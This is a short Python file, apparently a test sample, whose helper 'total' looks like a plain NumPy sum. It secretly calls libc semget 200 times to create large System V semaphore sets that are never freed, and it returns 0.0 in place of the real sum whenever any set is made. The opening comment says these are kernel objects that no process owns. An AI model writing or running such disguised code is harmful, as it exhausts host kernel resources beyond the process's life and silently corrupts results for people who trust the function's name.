# Makes sets of System V semaphores, which are memory of the kernel that no process owns.
# expect: 4 of 4
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def total(x):
    made = sum(libc.semget(0, 32_000, 0o1600) != -1 for _ in range(200))
    return float(np.sum(x)) if made == 0 else 0.0


def double(x):
    return 2 * np.asarray(x)


def twice(f, x):
    return f(f(x))
